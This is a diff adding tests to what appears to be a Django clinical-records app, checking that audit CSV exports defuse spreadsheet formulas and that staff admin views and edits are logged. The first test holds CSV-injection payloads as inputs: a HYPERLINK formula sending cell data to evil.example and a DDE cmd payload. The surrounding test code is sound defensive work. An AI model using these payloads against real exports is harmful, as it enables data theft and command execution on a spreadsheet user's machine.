@@ -159,6 +159,22 @@ def test_the_csv_holds_the_filtered_rows(world, clinician, auditor):
     ]
 
 
+def test_the_csv_cannot_carry_a_formula_into_the_auditors_spreadsheet(auditor):
+    """Anyone may type a username at the sign-in page and send any User-Agent, and both go into the trail: a
+    cell starting with = + - @ (or a tab, a carriage return) would be a formula in the auditor's spreadsheet.
+    Such a cell is written with a leading apostrophe, the rest as it was."""
+    formula, agent = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    Client(HTTP_USER_AGENT=agent).post("/login/", {"username": formula, "password": "wrong"})
+    Client(HTTP_USER_AGENT="\t-2+3").post("/login/", {"username": "+1-555", "password": "wrong"})
+    response = signed_in(auditor).get("/audit/export.csv", {"action": "sign_in.failed"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted((r["username"], r["user_agent"]) for r in rows) == [
+        ("'+1-555", "'\t-2+3"),
+        ("'" + formula, "'" + agent),
+    ]
+    assert not any(value[:1] in "=+-@\t\r" for row in rows for value in row.values() if value)
+
+
 def test_only_auditors_and_administrators_read_the_trail(clinician, staff, auditor, administrator, outsider):
     for user in (clinician, staff):
         assert signed_in(user).get("/audit/").status_code == 403
@@ -177,3 +193,41 @@ def test_the_admin_shows_the_trail_but_cannot_change_or_delete_it(administrator,
     assert client.post(f"/admin/audit/auditevent/{event.pk}/delete/", {"post": "yes"}).status_code == 403
     assert client.get("/admin/audit/auditevent/add/").status_code == 403
     assert AuditEvent.objects.filter(pk=event.pk, action="sign_in").exists()
+
+
+def test_what_staff_read_and_change_in_the_admin_is_recorded(staff, clinician, other_clinician, launched):
+    """The admin is where staff keep a patient's identifiers and assign clinicians (Patient → Access): a look
+    at the record there shows the identifiers, and an assignment changes who may read the patient."""
+    from patients.models import Patient, PatientIdentifier, Report
+    from tests.test_patient_identifiers_admin import _form
+
+    patient = Patient.objects.create(label="SYNTH-ADMIN-AUDIT")
+    PatientIdentifier.objects.create(patient=patient, kind="name", value="Synthetic Person")
+    report = Report.objects.create(patient=patient, original_name="r.pdf", sha256="0" * 64, status="ready")
+    client = signed_in(staff)
+    url = f"/admin/patients/patient/{patient.pk}/change/"
+    assert client.get(url).status_code == 200
+    assert actions(patient_id=patient.pk) == ["patient.viewed", "identifiers.viewed"]
+    last = AuditEvent.objects.order_by("pk").last().pk
+
+    data = _form(patient, [("record_number", "SYN-7781")])
+    data["identifiers-INITIAL_FORMS"] = "0"
+    data |= {"clinicians": [str(other_clinician.pk)], "age": "41", "redactions-TOTAL_FORMS": "0"}
+    response = client.post(url, data)
+    assert response.status_code == 302, response.content.decode()[:2000]
+    assert set(patient.clinicians.all()) == {other_clinician}
+    rows = AuditEvent.objects.filter(pk__gt=last).order_by("pk")
+    by_action = {row.action: row for row in rows}
+    assert set(by_action) == {"patient.edited", "identifiers.changed", "patient.assigned"}
+    assert by_action["patient.edited"].detail == {"fields": ["age"]}
+    assert by_action["identifiers.changed"].detail == {"change": "added", "count": 1}
+    assigned = by_action["patient.assigned"]
+    assert assigned.detail == {"added": [other_clinician.pk], "removed": [clinician.pk]}
+    assert assigned.user == staff and assigned.patient_id == patient.pk and assigned.ip == "127.0.0.1"
+    assert "SYN-7781" not in str([row.detail for row in rows])
+
+    # Reading a report again from the admin's list is recorded as from the page.
+    client.post(
+        "/admin/patients/report/", {"action": "reingest", "_selected_action": [str(report.pk)], "index": "0"}
+    )
+    assert actions(action="report.reingested") == ["report.reingested"]
